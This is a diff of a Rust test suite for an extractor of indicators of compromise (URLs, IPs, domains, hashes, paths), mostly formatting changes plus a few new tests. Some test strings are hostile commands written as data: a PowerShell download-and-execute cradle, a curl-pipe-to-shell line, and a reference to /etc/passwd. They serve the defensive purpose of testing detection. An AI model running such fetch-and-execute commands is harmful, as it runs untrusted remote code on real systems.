@@ -17,11 +17,18 @@ fn extract(text: &str) -> Vec<(String, String)> {
 }
 
 fn of_type(found: &[(String, String)], ty: &str) -> Vec<String> {
-    found.iter().filter(|(t, _)| t == ty).map(|(_, o)| o.clone()).collect()
+    found
+        .iter()
+        .filter(|(t, _)| t == ty)
+        .map(|(_, o)| o.clone())
+        .collect()
 }
 
 fn pairs(items: &[(&str, &str)]) -> Vec<(String, String)> {
-    items.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect()
+    items
+        .iter()
+        .map(|(a, b)| (a.to_string(), b.to_string()))
+        .collect()
 }
 
 #[test]
@@ -38,11 +45,20 @@ fn ipv6_forms() {
     );
     assert_eq!(
         of_type(&f, "ipv6"),
-        ["2001:db8::8a2e:370:7334", "fe80::1", "::ffff:192.168.1.1", "2001:db8::1", "::1"]
+        [
+            "2001:db8::8a2e:370:7334",
+            "fe80::1",
+            "::ffff:192.168.1.1",
+            "2001:db8::1",
+            "::1"
+        ]
     );
     assert_eq!(of_type(&f, "ipv4"), ["192.168.1.1"]);
     assert_eq!(
-        of_type(&extract("full 2001:0db8:0000:0000:0000:ff00:0042:8329."), "ipv6"),
+        of_type(
+            &extract("full 2001:0db8:0000:0000:0000:ff00:0042:8329."),
+            "ipv6"
+        ),
         ["2001:0db8:0000:0000:0000:ff00:0042:8329"]
     );
 }
@@ -57,7 +73,11 @@ fn ipv6_lookalikes_are_not_addresses() {
         "a :: b",
         "1:2:3:4:5:6:7:8:9",
     ] {
-        assert_eq!(of_type(&extract(text), "ipv6"), Vec::<String>::new(), "{text}");
+        assert_eq!(
+            of_type(&extract(text), "ipv6"),
+            Vec::<String>::new(),
+            "{text}"
+        );
     }
     // A rejected IPv6 start does not hide the domain that follows.
     assert_eq!(extract("cafe:babe:evil.com"), pairs(&[("dns", "evil.com")]));
@@ -68,7 +88,9 @@ fn hashes_by_length() {
     let md5 = "d41d8cd98f00b204e9800998ecf8427e";
     let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
     let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
-    let f = extract(&format!("{sha256} {md5},{sha1} {md5}0 D41D8CD98F00B204E9800998ECF8427F"));
+    let f = extract(&format!(
+        "{sha256} {md5},{sha1} {md5}0 D41D8CD98F00B204E9800998ECF8427F"
+    ));
     assert_eq!(
         f,
         pairs(&[
@@ -88,14 +110,29 @@ fn hashes_by_length() {
 #[test]
 fn dns_needs_a_public_suffix() {
     let f = extract("evil.local example.co.uk host.corp files.example.com report.zip a.ps1");
-    assert_eq!(of_type(&f, "dns"), ["example.co.uk", "files.example.com", "report.zip"]);
+    assert_eq!(
+        of_type(&f, "dns"),
+        ["example.co.uk", "files.example.com", "report.zip"]
+    );
     let opts = ExtractOptions {
         ignore_tlds: true,
         ..ExtractOptions::default()
     };
     let f = extract_with("evil.local example.co.uk", &opts);
     assert_eq!(of_type(&f, "dns"), ["evil.local", "example.co.uk"]);
-    assert_eq!(of_type(&extract("xn--80ak6aa92e.com"), "dns"), ["xn--80ak6aa92e.com"]);
+    assert_eq!(
+        of_type(&extract("xn--80ak6aa92e.com"), "dns"),
+        ["xn--80ak6aa92e.com"]
+    );
+    // The suffix check ignores case; over-long names and labels are not domains.
+    assert_eq!(
+        of_type(&extract("Visit WWW.EXAMPLE.COM"), "dns"),
+        ["WWW.EXAMPLE.COM"]
+    );
+    let long_label = format!("{}.com", "a".repeat(64));
+    assert_eq!(of_type(&extract(&long_label), "dns"), Vec::<String>::new());
+    let long_name = format!("{}com", "abcdefghi.".repeat(26));
+    assert_eq!(of_type(&extract(&long_name), "dns"), Vec::<String>::new());
 }
 
 #[test]
@@ -110,7 +147,10 @@ fn url_host_reported_as_dns() {
     let f = extract("GET http://user:pw@host.example.com:8443/p?q=1#f and https://intranet/x");
     assert_eq!(
         of_type(&f, "url"),
-        ["http://user:pw@host.example.com:8443/p?q=1#f", "https://intranet/x"]
+        [
+            "http://user:pw@host.example.com:8443/p?q=1#f",
+            "https://intranet/x"
+        ]
     );
     assert_eq!(of_type(&f, "dns"), ["host.example.com"]);
 }
@@ -120,8 +160,14 @@ fn url_ends_cleanly() {
     let f = extract("iex (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a.ps1'); x");
     assert_eq!(of_type(&f, "url"), ["http://1.2.3.4/a.ps1"]);
     let f = extract("see (https://en.wikipedia.org/wiki/Foo_(bar)). Then");
-    assert_eq!(of_type(&f, "url"), ["https://en.wikipedia.org/wiki/Foo_(bar)"]);
-    assert_eq!(of_type(&extract("curl http://x.example.com/a.sh|sh"), "url"), ["http://x.example.com/a.sh"]);
+    assert_eq!(
+        of_type(&f, "url"),
+        ["https://en.wikipedia.org/wiki/Foo_(bar)"]
+    );
+    assert_eq!(
+        of_type(&extract("curl http://x.example.com/a.sh|sh"), "url"),
+        ["http://x.example.com/a.sh"]
+    );
 }
 
 #[test]
@@ -146,12 +192,18 @@ fn url_encoded_text_is_rescanned() {
 fn emails_in_key_value_logs() {
     let line = "postfix/smtp: from=user@example.com, to=<john.smith@corp.example.co.uk>, relay=mail.evil.local status=sent";
     let f = extract(line);
-    assert_eq!(of_type(&f, "email"), ["user@example.com", "john.smith@corp.example.co.uk"]);
+    assert_eq!(
+        of_type(&f, "email"),
+        ["user@example.com", "john.smith@corp.example.co.uk"]
+    );
     assert_eq!(of_type(&f, "dns"), ["example.com", "corp.example.co.uk"]);
     let f = extract("GET /x?a=1&to=admin@evil.com msg='bob@example.org'");
     assert_eq!(of_type(&f, "email"), ["admin@evil.com", "bob@example.org"]);
     // An email at a private domain is kept; its domain is not a dns name.
-    assert_eq!(extract("admin@corp.local"), pairs(&[("email", "admin@corp.local")]));
+    assert_eq!(
+        extract("admin@corp.local"),
+        pairs(&[("email", "admin@corp.local")])
+    );
 }
 
 #[test]
@@ -182,24 +234,46 @@ fn defanged_phishing_text() {
         ]
     );
 
-    let refanged = extract_with(text, &ExtractOptions { refang: true, ..ExtractOptions::default() });
+    let refanged = extract_with(
+        text,
+        &ExtractOptions {
+            refang: true,
+            ..ExtractOptions::default()
+        },
+    );
     assert_eq!(
         of_type(&refanged, "url"),
-        ["https://evil-site.com/login", "http://bad.example.org/x.php?id=1", "ftp://files.example.com/a.zip"]
+        [
+            "https://evil-site.com/login",
+            "http://bad.example.org/x.php?id=1",
+            "ftp://files.example.com/a.zip"
+        ]
     );
     assert_eq!(of_type(&refanged, "email"), ["support@evil.com"]);
     assert_eq!(of_type(&refanged, "ipv4"), ["45.33.32.156"]);
 
     // MSTICPy's defanged=False: only plain indicators.
-    let plain = extract_with(text, &ExtractOptions { defanged: false, ..ExtractOptions::default() });
+    let plain = extract_with(
+        text,
+        &ExtractOptions {
+            defanged: false,
+            ..ExtractOptions::default()
+        },
+    );
     assert_eq!(of_type(&plain, "url"), Vec::<String>::new());
     assert_eq!(of_type(&plain, "dns"), ["a.zip"]);
 }
 
 #[test]
 fn refang_merges_duplicates() {
-    let opts = ExtractOptions { refang: true, ..ExtractOptions::default() };
-    assert_eq!(extract_with("evil.com evil[.]com", &opts), pairs(&[("dns", "evil.com")]));
+    let opts = ExtractOptions {
+        refang: true,
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        extract_with("evil.com evil[.]com", &opts),
+        pairs(&[("dns", "evil.com")])
+    );
 }
 
 #[test]
@@ -209,13 +283,19 @@ fn priorities_decide_between_types() {
         custom_types: vec![CustomIocType::new("corp_host", r"[a-z]+\.example\.com", 0)],
         ..ExtractOptions::default()
     };
-    assert_eq!(extract_with("web.example.com", &opts), pairs(&[("corp_host", "web.example.com")]));
+    assert_eq!(
+        extract_with("web.example.com", &opts),
+        pairs(&[("corp_host", "web.example.com")])
+    );
     // … and with a higher number the built-in keeps it.
     let opts = ExtractOptions {
         custom_types: vec![CustomIocType::new("corp_host", r"[a-z]+\.example\.com", 5)],
         ..ExtractOptions::default()
     };
-    assert_eq!(extract_with("web.example.com", &opts), pairs(&[("dns", "web.example.com")]));
+    assert_eq!(
+        extract_with("web.example.com", &opts),
+        pairs(&[("dns", "web.example.com")])
+    );
 }
 
 #[test]
@@ -231,7 +311,10 @@ fn custom_types_with_groups_and_nested_indicators() {
         ],
         ..ExtractOptions::default()
     };
-    let f = extract_with("cve-2021-44228 via Ticket #4711; beacon=10.9.8.7:443", &opts);
+    let f = extract_with(
+        "cve-2021-44228 via Ticket #4711; beacon=10.9.8.7:443",
+        &opts,
+    );
     assert_eq!(
         f,
         pairs(&[
@@ -242,21 +325,33 @@ fn custom_types_with_groups_and_nested_indicators() {
         ])
     );
     // Asking for a custom type by name.
-    let only = ExtractOptions { ioc_types: Some(vec!["cve".into()]), ..opts.clone() };
-    assert_eq!(extract_with("CVE-2020-0601 1.2.3.4", &only), pairs(&[("cve", "CVE-2020-0601")]));
+    let only = ExtractOptions {
+        ioc_types: Some(vec!["cve".into()]),
+        ..opts.clone()
+    };
+    assert_eq!(
+        extract_with("CVE-2020-0601 1.2.3.4", &only),
+        pairs(&[("cve", "CVE-2020-0601")])
+    );
 }
 
 #[test]
 fn custom_type_errors() {
     let bad = |c: CustomIocType| {
-        IocExtractor::new(&ExtractOptions { custom_types: vec![c], ..ExtractOptions::default() })
-            .err()
-            .expect("should fail")
-            .to_string()
+        IocExtractor::new(&ExtractOptions {
+            custom_types: vec![c],
+            ..ExtractOptions::default()
+        })
+        .err()
+        .expect("should fail")
+        .to_string()
     };
     assert!(bad(CustomIocType::new("x", "(?<=a)b", 1)).contains("invalid regex"));
     assert!(bad(CustomIocType::new("sha256", "a", 1)).contains("built-in"));
-    let e = bad(CustomIocType { group: Some("g".into()), ..CustomIocType::new("x", "(a)", 1) });
+    let e = bad(CustomIocType {
+        group: Some("g".into()),
+        ..CustomIocType::new("x", "(a)", 1)
+    });
     assert!(e.contains("no capture group named `g`"), "{e}");
 }
 
@@ -264,32 +359,62 @@ fn custom_type_errors() {
 fn paths_only_on_request() {
     let text = r"C:\Windows\System32\cmd.exe /c \\server\share\x.exe and /usr/bin/curl";
     assert_eq!(extract(text), Vec::<(String, String)>::new());
-    let win = extract_with(text, &ExtractOptions { include_paths: true, ..ExtractOptions::default() });
+    let win = extract_with(
+        text,
+        &ExtractOptions {
+            include_paths: true,
+            ..ExtractOptions::default()
+        },
+    );
     assert_eq!(
         win,
-        pairs(&[("windows_path", r"C:\Windows\System32\cmd.exe"), ("windows_path", r"\\server\share\x.exe")])
+        pairs(&[
+            ("windows_path", r"C:\Windows\System32\cmd.exe"),
+            ("windows_path", r"\\server\share\x.exe")
+        ])
     );
-    let lx = ExtractOptions { ioc_types: Some(vec!["linux_path".into()]), ..ExtractOptions::default() };
-    assert_eq!(of_type(&extract_with(text, &lx), "linux_path"), ["/c", "/usr/bin/curl"]);
+    let lx = ExtractOptions {
+        ioc_types: Some(vec!["linux_path".into()]),
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        of_type(&extract_with(text, &lx), "linux_path"),
+        ["/c", "/usr/bin/curl"]
+    );
     let f = extract_with(
         r"C:\Program Files\App\evil.com\drop.exe",
-        &ExtractOptions { include_paths: true, ..ExtractOptions::default() },
+        &ExtractOptions {
+            include_paths: true,
+            ..ExtractOptions::default()
+        },
     );
     assert_eq!(
         f,
-        pairs(&[("dns", "evil.com"), ("windows_path", r"C:\Program Files\App\evil.com\drop.exe")])
+        pairs(&[
+            ("dns", "evil.com"),
+            ("windows_path", r"C:\Program Files\App\evil.com\drop.exe")
+        ])
     );
 }
 
 #[test]
 fn type_filter_reports_only_requested_types() {
-    let opts = ExtractOptions { ioc_types: Some(vec!["dns".into()]), ..ExtractOptions::default() };
+    let opts = ExtractOptions {
+        ioc_types: Some(vec!["dns".into()]),
+        ..ExtractOptions::default()
+    };
     assert_eq!(
         extract_with("http://evil.com/a a@b.example.org 1.2.3.4", &opts),
         pairs(&[("dns", "evil.com"), ("dns", "b.example.org")])
     );
-    let opts = ExtractOptions { ioc_types: Some(vec!["sha256".into(), "ip".into()]), ..ExtractOptions::default() };
-    assert_eq!(extract_with("http://1.2.3.4/x", &opts), pairs(&[("ipv4", "1.2.3.4")]));
+    let opts = ExtractOptions {
+        ioc_types: Some(vec!["sha256".into(), "ip".into()]),
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        extract_with("http://1.2.3.4/x", &opts),
+        pairs(&[("ipv4", "1.2.3.4")])
+    );
 }
 
 #[test]
@@ -302,7 +427,10 @@ fn classification_of_single_observables() {
         ("evil[.]com", Some(IocType::Dns)),
         ("user@example.com", Some(IocType::Email)),
         ("d41d8cd98f00b204e9800998ecf8427e", Some(IocType::Md5Hash)),
-        ("da39a3ee5e6b4b0d3255bfef95601890afd80709", Some(IocType::Sha1Hash)),
+        (
+            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+            Some(IocType::Sha1Hash),
+        ),
         (r"C:\Windows\evil.exe", Some(IocType::WindowsPath)),
         ("/etc/passwd", Some(IocType::LinuxPath)),
         ("evil.local", None),
@@ -327,17 +455,34 @@ fn validation_is_a_full_match() {
     assert!(validate("hxxps://evil-site[.]com/a", &IocType::Url));
     assert!(!validate("http://x.com/a.", &IocType::Url));
     assert!(validate("::ffff:1.2.3.4", &IocType::Ipv6));
-    assert!(!validate("d41d8cd98f00b204e9800998ecf8427e", &IocType::Sha1Hash));
-    let plain = IocExtractor::new(&ExtractOptions { defanged: false, ..ExtractOptions::default() }).unwrap();
+    assert!(!validate(
+        "d41d8cd98f00b204e9800998ecf8427e",
+        &IocType::Sha1Hash
+    ));
+    let plain = IocExtractor::new(&ExtractOptions {
+        defanged: false,
+        ..ExtractOptions::default()
+    })
+    .unwrap();
     assert!(!plain.validate("evil[.]com", &IocType::Dns));
-    let ignoring = IocExtractor::new(&ExtractOptions { ignore_tlds: true, ..ExtractOptions::default() }).unwrap();
+    let ignoring = IocExtractor::new(&ExtractOptions {
+        ignore_tlds: true,
+        ..ExtractOptions::default()
+    })
+    .unwrap();
     assert!(ignoring.validate("evil.local", &IocType::Dns));
 }
 
 #[test]
 fn hash_type_by_length() {
-    assert_eq!(file_hash_type("d41d8cd98f00b204e9800998ecf8427e"), Some(IocType::Md5Hash));
-    assert_eq!(file_hash_type(" da39a3ee5e6b4b0d3255bfef95601890afd80709 "), Some(IocType::Sha1Hash));
+    assert_eq!(
+        file_hash_type("d41d8cd98f00b204e9800998ecf8427e"),
+        Some(IocType::Md5Hash)
+    );
+    assert_eq!(
+        file_hash_type(" da39a3ee5e6b4b0d3255bfef95601890afd80709 "),
+        Some(IocType::Sha1Hash)
+    );
     assert_eq!(
         file_hash_type("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
         Some(IocType::Sha256Hash)
@@ -353,7 +498,14 @@ fn extract_many_skips_nulls_and_keeps_positions() {
     let got: Vec<_> = ex
         .extract_many(&texts)
         .into_iter()
-        .map(|m| (m.source_index, m.ioc_type.name().to_string(), m.observable, m.input))
+        .map(|m| {
+            (
+                m.source_index,
+                m.ioc_type.name().to_string(),
+                m.observable,
+                m.input,
+            )
+        })
         .collect();
     assert_eq!(
         got,
@@ -367,7 +519,9 @@ fn extract_many_skips_nulls_and_keeps_positions() {
 
 #[test]
 fn non_ascii_text_is_safe() {
-    let f = extract("Zugriff von ümlaut.example.com → 10.0.0.1 ſtraße@exämple.de 日本.jp http://例え.jp/パス");
+    let f = extract(
+        "Zugriff von ümlaut.example.com → 10.0.0.1 ſtraße@exämple.de 日本.jp http://例え.jp/パス",
+    );
     assert_eq!(of_type(&f, "ipv4"), ["10.0.0.1"]);
     assert!(of_type(&f, "dns").contains(&"mlaut.example.com".to_string()));
 }
@@ -385,35 +539,83 @@ fn occurs_in(obs: &str, input: &str) -> bool {
 
 fn indicator_soup() -> impl Strategy<Value = String> {
     let pieces = prop::sample::select(vec![
-        "http://", "hxxps://", "[.]", ".", "@", "[at]", ":", "::", "%2F", "%3A", "%25", "=", "/",
-        "\\", "C:", "com", "co.uk", "local", "evil", "1.2.3.4", "256", "ffff", "d41d8cd98f00b204",
-        "e9800998ecf8427e", " ", "(", ")", "'", "é", "日本", "\n", "-", "..", "xn--",
+        "http://",
+        "hxxps://",
+        "[.]",
+        ".",
+        "@",
+        "[at]",
+        ":",
+        "::",
+        "%2F",
+        "%3A",
+        "%25",
+        "=",
+        "/",
+        "\\",
+        "C:",
+        "com",
+        "co.uk",
+        "local",
+        "evil",
+        "1.2.3.4",
+        "256",
+        "ffff",
+        "d41d8cd98f00b204",
+        "e9800998ecf8427e",
+        " ",
+        "(",
+        ")",
+        "'",
+        "é",
+        "日本",
+        "\n",
+        "-",
+        "..",
+        "xn--",
     ]);
-    prop::collection::vec(prop_oneof![pieces.prop_map(String::from), "\\PC{0,6}"], 0..40)
-        .prop_map(|v| v.concat())
+    prop::collection::vec(
+        prop_oneof![pieces.prop_map(String::from), "\\PC{0,6}"],
+        0..40,
+    )
+    .prop_map(|v| v.concat())
 }
 
-proptest! {
-    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
-
-    #[test]
-    fn never_panics_and_observables_come_from_the_input(text in indicator_soup()) {
-        let opts = ExtractOptions {
+/// Extractors for every built-in type, as found and refanged; built once for all cases.
+fn soup_extractors() -> &'static (IocExtractor, IocExtractor) {
+    static EXTRACTORS: std::sync::OnceLock<(IocExtractor, IocExtractor)> =
+        std::sync::OnceLock::new();
+    EXTRACTORS.get_or_init(|| {
+        let all = ExtractOptions {
             ioc_types: Some(BUILTIN_TYPES.iter().map(|t| t.name().to_string()).collect()),
             ..ExtractOptions::default()
         };
-        for (_, obs) in extract_with(&text, &opts) {
+        let refanging = ExtractOptions {
+            refang: true,
+            ..all.clone()
+        };
+        (
+            IocExtractor::new(&all).unwrap(),
+            IocExtractor::new(&refanging).unwrap(),
+        )
+    })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]
+
+    #[test]
+    fn never_panics_and_observables_come_from_the_input(text in indicator_soup()) {
+        let (all, refanging) = soup_extractors();
+        for (_, obs) in all.extract(&text) {
             prop_assert!(!obs.is_empty());
             prop_assert!(occurs_in(&obs, &text), "{obs:?} not in {text:?}");
         }
-        let refanged = ExtractOptions { refang: true, ..opts };
-        let checker = IocExtractor::new(&refanged).unwrap();
-        for (ty, obs) in extract_with(&text, &refanged) {
-            let ty = IocType::from_name(&ty).unwrap();
+        for (ty, obs) in refanging.extract(&text) {
             if matches!(ty, IocType::Ipv4 | IocType::Dns | IocType::Email) {
                 // Plain forms carry no defanging and are valid indicators on their own.
                 prop_assert!(!obs.contains("[.]") && !obs.contains("[at]"), "{obs:?}");
-                prop_assert!(checker.validate(&obs, &ty), "{ty} {obs:?} from {text:?}");
+                prop_assert!(refanging.validate(&obs, &ty), "{ty} {obs:?} from {text:?}");
             }
         }
         let _ = ioc_type(&text);
@@ -421,7 +623,7 @@ proptest! {
 
     #[test]
     fn arbitrary_unicode_never_panics(text in "\\PC{0,200}") {
-        let _ = extract(&text);
+        let _ = soup_extractors().0.extract(&text);
         let _ = ioc_type(&text);
         let _ = validate(&text, &IocType::Url);
     }
